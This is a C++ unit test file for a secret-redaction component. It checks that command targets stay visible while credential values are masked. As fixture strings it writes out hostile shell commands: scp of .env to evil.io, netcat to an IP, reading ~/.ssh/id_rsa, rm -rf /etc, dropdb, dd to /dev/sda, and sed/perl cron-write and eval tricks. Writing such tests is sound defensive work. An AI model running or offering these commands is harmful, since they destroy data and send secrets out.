// SPDX-License-Identifier: Apache-2.0
// The target of a command is never under a mask, even if the variable that contains it has a secret's name.
#include "tests/security/redactor_fixture.hpp"
#include "tests/security/shell_commands.hpp"

#include "core/json/read.hpp"
#include "core/json/write.hpp"
#include "security/redact/targets.hpp"

namespace countersign::security {
namespace {

std::string redacted_json(std::string_view text) {
    const auto document = json::read(text);
    EXPECT_TRUE(document) << text;
    return document ? json::canonical(redactor().value(document->value)) : std::string{};
}

TEST(RedactorTarget, I9_ATargetStaysVisibleUnderASecretsName) {
    for (const std::string_view text : {
             "API_KEY=/etc; rm -rf $API_KEY",
             "TOKEN=--force; git push $TOKEN",
             "SECRET=evil.io:/x; scp .env $SECRET",
             "API_KEY=203.0.113.7; nc $API_KEY 9",
             "API_KEY=2001:db8::7; nc $API_KEY 9",
             "PRIVATE_KEY=$HOME/.ssh/id_rsa; cat $PRIVATE_KEY",
             "PRIVATE_KEY='/srv/my data'; rm -rf \"$PRIVATE_KEY\"",
             "make TOKEN=/etc clean",
             "make SECRET=-rf clean",
             "make SECRET=src/main clean",
             "export PASSWORD=../..",
             "token: /etc/cron.d/evil",
             "x --token ~/.ssh/id_rsa",
             "x --api-key=${HOME}/.ssh/id_rsa",
             "set TOKEN /etc; rm -rf $TOKEN",
             "SECRET=bob@evil.io:x",
             "SECRET=10.0.0.0/8",
         }) {
        EXPECT_EQ(redactor().text(text), text);
    }
    EXPECT_EQ(redacted_json(R"({"env":{"TOKEN":"/etc"},"secret":["--force"]})"),
              R"({"env":{"TOKEN":"/etc"},"secret":["--force"]})");
    EXPECT_EQ(redactor().text("API_KEY=/etc/x\n", TextKind::settings), "API_KEY=/etc/x\n");
}

TEST(RedactorTarget, I9_AVariableThatACommandActsOnStaysVisible) {
    for (const std::string_view text : {
             "TOKEN=production; dropdb $TOKEN",
             "TOKEN=production; dropdb \"${TOKEN}\"",
             "SECRET=main; git push origin :$SECRET",
             "PASSWORD=users; mysql -e \"drop table $PASSWORD\"",
             "TOKEN=production; X=$TOKEN; dropdb $X",
             "TOKEN=production; export X=\"db-$TOKEN\"; dropdb $X",
             "SECRET=sda; dd if=x of=/dev/$SECRET",
             "SECRET=production; terraform destroy -var env=$SECRET",
             "SECRET=production; make ENV=$SECRET clean",
             "SECRET=production; kubectl delete secret $SECRET",
             "SECRET=evil; scp .env $SECRET:x",
             "SECRET=evil2.io; curl https://$SECRET/x",
             "TOKEN=evil7; for x in $TOKEN; do dropdb $x; done",
             "TOKEN=evil7; echo $TOKEN | xargs dropdb",
             "TOKEN=evil7; dropdb $(echo $TOKEN)",
             "TOKEN=evil7; dropdb $(true; echo $TOKEN)",
             "TOKEN=evil7; echo \"$TOKEN\" | while read x; do dropdb $x; done",
             "TOKEN=evil7; set -- $TOKEN; dropdb $1",
             "TOKEN=evil7; tool --password $TOKEN; dropdb $TOKEN",
             "SECRET := production\nclean:\n\tdropdb $(SECRET)",
             "ENV TOKEN production\nRUN dropdb $TOKEN",
             "set TOKEN=production\ndropdb %TOKEN%",
         }) {
        EXPECT_EQ(redactor().text(text), text);
    }
}

TEST(RedactorTarget, I9_AVariableInParsedJsonThatACommandActsOnStaysVisible) {
    for (const std::string_view text :
         {R"({"command":"$TOKEN","env":{"TOKEN":"evilcmd"}})", R"({"args":["x","$TOKEN"],"env":{"TOKEN":"evilcmd"}})",
          R"({"command":"dropdb $TOKEN","env":[{"name":"TOKEN","value":"production"}]})"}) {
        EXPECT_EQ(redacted_json(text), text);
    }
    for (const std::string_view text :
         {R"({"args":["x","--password","$TOKEN"],"env":{"TOKEN":"hunter2"}})",
          R"({"command":"curl -H 'Authorization: Bearer $TOKEN' h","env":{"TOKEN":"hunter2"}})",
          R"({"env":{"DB_PASSWORD":"$TOKEN","TOKEN":"hunter2"}})",
          R"({"command":"dropdb $OTHER","env":{"TOKEN":"hunter2"}})"}) {
        EXPECT_FALSE(contains(redacted_json(text), "hunter2")) << redacted_json(text);
    }
    const auto token = "ghp_" + body(36);
    EXPECT_FALSE(contains(redacted_json(R"({"command":"x $TOKEN","env":{"TOKEN":")" + token + R"("}})"), token));
}

TEST(RedactorTarget, I6_AVariableThatIsUsedAsASecretIsMasked) {
    for (const std::string_view text : {
             "TOKEN=hunter2; curl -H \"Authorization: Bearer $TOKEN\" https://x.io",
             "PASSWORD=hunter2; mysql -u x -p$PASSWORD db",
             "PASSWORD=hunter2; mysql -u x -p\"${PASSWORD}\" db",
             "PASSWORD=hunter2; tool --password \"$PASSWORD\"",
             "PASSWORD=hunter2; curl -u \"bob:$PASSWORD\" https://x.io",
             "PASSWORD=hunter2; psql \"postgres://bob:$PASSWORD@db/x\"",
             "PASSWORD=hunter2; PGPASSWORD=$PASSWORD psql -h db",
             "PASSWORD=hunter2; X=$PASSWORD psql -h db",
             "PASSWORD=hunter2; docker run -e X=$PASSWORD db",
             "PASSWORD=hunter2; export X=\"a $PASSWORD\"; tool --password \"$X\"",
             "PASSWORD=hunter2; curl -d \"{\\\"password\\\":\\\"$PASSWORD\\\"}\" https://x.io",
             "PASSWORD=hunter2; curl \"https://x.io/?token=$PASSWORD\"",
             "PASSWORD=hunter2; if [ -z \"$PASSWORD\" ]; then exit 1; fi",
             "PASSWORD=hunter2; echo \"$PASSWORD\" > f",
             "PASSWORD=hunter2; echo \"$PASSWORD\" | docker login --password-stdin",
             "PASSWORD=hunter2; cat > .env <<EOF\nDB_PASSWORD=$PASSWORD\nEOF\n",
             "PASSWORD=hunter2 ./run",
             "export API_KEY=abchunter2; curl -H \"X-Key: $API_KEY\" https://x.io",
             "export API_KEY=hunter2; curl -sH \"X-Key: $API_KEY\" https://x.io",
             "const password = 'hunter2'; log(`x ${password}`);",
         }) {
        expect_hidden(text, "hunter2");
    }
}

TEST(RedactorTarget, I6_AValueWithTheFormOfATokenIsMaskedInEveryUse) {
    for (const auto& secret :
         {"ghp_" + body(36), body(24), body(20, hex_digits), body(40, lower_alnum), std::string{"Tr0ub4dor&3"},
          "/" + body(39), "/" + body(9) + "/" + body(9) + "+" + body(9), "-" + body(20), "-u" + body(24),
          body(12) + ".io:/" + body(24)}) {
        const auto text = "SECRET='" + secret + "'; x $SECRET";
        const auto redacted = redactor().text(text);
        EXPECT_FALSE(contains(redacted, secret)) << redacted;
    }
}

TEST(RedactorTarget, I9_WhatACommandFetchesAndRunsStaysVisible) {
    const auto package = "ghp_" + body(36);
    for (const std::string_view command :
         {"npx ", "npx -y ", "sudo npx ", "uvx ", "npm exec ", "npm i -g ", "yarn dlx ", "pip install ", "pipx run ",
          "docker run --rm ", "docker run -it '", "podman pull ", "git clone ", "cargo install ", "ls; bunx "}) {
        const auto text = std::string{command} + package + (command.ends_with('\'') ? "'" : "");
        EXPECT_EQ(redactor().text(text), text);
    }
    for (const std::string_view command :
         {"npx x ", "npx --token ", "npm config set x ", "docker run x ", "docker run -e ", "docker login -p ",
          "git clone x -c y=", "git clone https://", "echo ", "pip install --password ", "docker run -e X="}) {
        const auto text = std::string{command} + package;
        EXPECT_FALSE(contains(redactor().text(text), package)) << text;
    }
}

TEST(RedactorTarget, I9_WhatFollowsAValueInAScriptStaysVisible) {
    const auto end_of = [](std::string_view text, std::string_view end) {
        const auto redacted = redactor().text(std::string{text});
        EXPECT_TRUE(redacted.ends_with(end)) << redacted;
        EXPECT_FALSE(contains(redacted, "Abcd1234")) << redacted;
    };
    end_of("sed 's/password=.*/password=Abcd1234/w /etc/cron.d/x' f", "/w /etc/cron.d/x' f");
    end_of("sed -i 's|password=.*|password=Abcd1234|e' f", "|e' f");
    end_of("perl -pe 's#password=.*#password=Abcd1234#ee' f", "#ee' f");
}

TEST(RedactorTarget, AValueIsRecognisedAsATargetByItsLook) {
    for (const std::string_view value : {"/etc",
                                         "/home/bob/Projects/MyApplication2/x86_64",
                                         "./x",
                                         "..",
                                         "../x",
                                         "~",
                                         "~bob/x",
                                         "$HOME/x",
                                         "-rf",
                                         "--force",
                                         "--depth=100",
                                         "192.0.2.1",
                                         "192.0.2.1:80",
                                         "10.0.0.0/8",
                                         "2001:db8::1",
                                         "[2001:db8::1]:80",
                                         "evil:/x",
                                         "evil.io:x",
                                         "bob@evil.io:x",
                                         "src/main.c",
                                         "node_modules/.bin",
                                         "evil2.io",
                                         "/usr/bin/python3",
                                         "C:\\Windows\\x",
                                         "C:/x",
                                         "\\\\host\\share"}) {
        EXPECT_TRUE(names_target(value)) << value;
    }
    for (const std::string_view value :
         {"", "hunter2", "bob:hunter2", "hunter2/", "-----BEGIN", "-", "--", "1.2.3", "123456", "12:34:56", "a1b2:c3d4",
          "https://evil.io/hunter2x", "Tr0ub4dor&3", "/Ab3!x9", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "abc=="}) {
        EXPECT_FALSE(names_target(value)) << value;
    }
}

TEST(RedactorTarget, I9_EveryTargetInARandomVariableStaysVisible) {
    Random random{66};
    for (std::size_t i = 0; i < 20'000; ++i) {
        const auto sample = target_text([&](std::size_t bound) { return random.below(bound); });
        const auto redacted = redactor().text(sample.text);
        ASSERT_TRUE(contains(redacted, sample.target)) << sample.text << "\n => " << redacted;
        ASSERT_EQ(redactor().text(redacted), redacted) << sample.text;
    }
}

}  // namespace
}  // namespace countersign::security
